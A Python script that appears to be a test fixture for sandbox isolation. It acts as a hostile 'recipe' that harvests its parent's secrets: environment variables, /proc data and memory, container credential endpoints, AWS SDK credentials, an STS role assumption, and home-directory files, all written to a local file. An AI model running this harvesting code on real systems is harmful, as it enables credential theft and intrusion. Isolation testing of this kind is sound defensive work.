"""A program that takes what it can of its parent's secrets, as a hostile recipe would: all that it reads is its loot.

    python -m greedy_recipe FILE …

writes to FILE what it found: of the environment, of both processes in /proc, of the parent's memory by calls of the
kernel, of the endpoint of the container's credentials, of the SDK, and of the files that it may read.
"""

from __future__ import annotations

import ctypes
import os
import sys
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

# To attach would stop the parent, which waits for this process.
_PTRACE_SEIZE, _PIDFD_OPEN, _PIDFD_GETFD = 0x4206, 434, 438
_MOST_BYTES = 1 << 28
_SEEN_IN_PROC = ("environ", "cmdline", "auxv", "stat", "status", "maps", "stack", "syscall", "io", "limits")


class _Piece(ctypes.Structure):
    _fields_ = (("start", ctypes.c_void_p), ("length", ctypes.c_size_t))


def loot() -> Iterator[bytes]:
    """Yield all that can be read."""
    parent = os.getppid()
    yield repr(dict(os.environ)).encode()
    for process in ("self", str(parent)):
        yield from _of_proc(Path("/proc") / process)
        yield from _of_memory(process)
        yield from _of_open_files(process)
    yield from _by_kernel(parent)
    yield from _of_endpoint()
    yield from _of_sdk()
    yield from _of_files()


def _of_proc(folder: Path) -> Iterator[bytes]:
    for name in _SEEN_IN_PROC:
        with suppress(OSError):
            yield (folder / name).read_bytes()


def _regions(process: str) -> list[tuple[int, int]]:
    with suppress(OSError):
        lines = (line.split() for line in Path(f"/proc/{process}/maps").read_text().splitlines())
        bounds = (words[0].split("-") for words in lines if words[1].startswith("rw"))
        return [(int(start, 16), int(stop, 16)) for start, stop in bounds]
    return []


def _of_memory(process: str) -> Iterator[bytes]:
    with suppress(OSError), Path(f"/proc/{process}/mem").open("rb", buffering=0) as memory:
        for start, stop in _regions(process):
            with suppress(OSError, OverflowError, ValueError):
                memory.seek(start)
                yield memory.read(min(stop - start, _MOST_BYTES))


def _of_open_files(process: str) -> Iterator[bytes]:
    with suppress(OSError):
        for entry in Path(f"/proc/{process}/fd").iterdir():
            with suppress(OSError):
                yield bytes(entry.readlink())


def _by_kernel(parent: int) -> Iterator[bytes]:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(_PTRACE_SEIZE, parent, None, None) == 0:
        print("traced it", flush=True)
    found = ctypes.create_string_buffer(1 << 12)
    for start, _stop in _regions(str(parent)) or _regions("self"):
        here, there = _Piece(ctypes.addressof(found), len(found)), _Piece(start, len(found))
        if libc.process_vm_readv(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            print("read its memory", flush=True)
            yield found.raw
    handle = libc.syscall(_PIDFD_OPEN, parent, 0)
    if libc.syscall(_PIDFD_GETFD, handle, 0, 0) >= 0:
        print("took a file of it", flush=True)


def _of_endpoint() -> Iterator[bytes]:
    address = os.environ["AWS_ENDPOINT_URL"]
    for path in ("", "/v2/credentials", "/v2/credentials/", "/v2/metadata", "/v3", "/v4", "/v1/tasks"):
        with suppress(OSError), urllib.request.urlopen(f"{address}{path}") as answer:
            yield answer.read()


def _of_sdk() -> Iterator[bytes]:
    from botocore.exceptions import ClientError
    from botocore.session import Session

    session = Session()
    yield repr(session.get_credentials().get_frozen_credentials()).encode()
    tags = [{"Key": "tenant", "Value": "victim"}]
    with suppress(ClientError):
        yield repr(
            session.create_client("sts").assume_role(
                RoleArn="arn:aws:iam::1:role/x-0123456789", RoleSessionName="greedy", Tags=tags
            )
        ).encode()


def _of_files() -> Iterator[bytes]:
    for variable in ("HOME", "TMPDIR"):
        for path in Path(os.environ[variable]).rglob("*"):
            with suppress(OSError):
                yield path.read_bytes()


if __name__ == "__main__":
    Path(sys.argv[1]).write_bytes(b"\n".join(loot()))
    sys.exit(7)
